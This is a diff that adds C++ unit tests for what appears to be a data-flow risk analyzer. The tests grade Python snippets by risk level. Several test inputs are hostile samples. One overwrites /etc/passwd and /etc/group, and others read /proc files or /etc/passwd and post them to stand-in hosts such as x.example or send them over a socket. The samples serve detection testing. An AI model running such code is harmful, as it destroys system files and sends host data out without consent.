@@ -294,3 +294,38 @@ TEST(AssessDataFlow, AComprehensionsNamesHoldWhatItIteratesUntilItCloses) {
                   "requests.post('https://x.example/u', data=open(p).read())\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessDataFlow, ObjectsCarryWhatTheirMethodsAndAttributesHold) {
+  // What __init__ stored is what every other method reads through self.
+  EXPECT_EQ(level("import os\nNAMES = ('passwd', 'group')\nclass W:\n    def __init__(self, d):\n        self.d = d\n"
+                  "    def targets(self):\n        return [os.path.join(self.d, n) for n in NAMES]\n"
+                  "    def wipe(self, p):\n        with open(p, 'w') as fh:\n            fh.write('')\n"
+                  "w = W('/etc')\nfor p in w.targets():\n    w.wipe(p)\n"),
+            RiskLevel::blocked);
+  // A @staticmethod called through self is given no self.
+  EXPECT_EQ(level("import requests\nclass C:\n    @staticmethod\n    def read(path):\n        with open(path) as fh:\n"
+                  "            return fh.read()\n    def collect(self):\n        return {'v': self.read('/proc/version')}\n"
+                  "requests.post('https://x.example/f', json=C().collect())\n"),
+            RiskLevel::high);
+  // A method of the file's classes called on a loop's item.
+  EXPECT_EQ(level("import requests\nclass K:\n    def collect(self):\n        return open('/proc/cmdline').read()\n"
+                  "def gather(cs):\n    return {c: c.collect() for c in cs}\n"
+                  "requests.post('https://x.example/f', json=gather([K()]))\n"),
+            RiskLevel::high);
+  // An attribute of an object the program made, and the object as a whole.
+  EXPECT_EQ(level("import requests\nclass P:\n    x = ''\ndef load():\n    p = P()\n    p.x = open('/proc/meminfo').read()\n"
+                  "    return p\nrequests.post('https://x.example/a', data=load())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nclass P:\n    x = ''\np = P()\np.x = open('notes.txt').read()\n"
+                  "requests.post('https://x.example/a', data=p.x)\n"),
+            RiskLevel::medium);
+  // Path / name is a path under the left one; `yield a, b` a tuple of what each carries.
+  EXPECT_EQ(level("from pathlib import Path\nimport requests\nPROC = Path('/proc')\ndef rd(name):\n"
+                  "    return (PROC / name).read_text()\nrequests.post('https://x.example/a', data=rd('cpuinfo'))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import socket\ndef rows(path):\n    with open(path) as fh:\n        for line in fh:\n"
+                  "            parts = line.split(':')\n            yield parts[0], parts[5]\n"
+                  "s = socket.create_connection(('h.example', 9))\nfor name, home in rows('/etc/passwd'):\n"
+                  "    s.sendall(f'{name} {home}'.encode())\n"),
+            RiskLevel::high);
+}
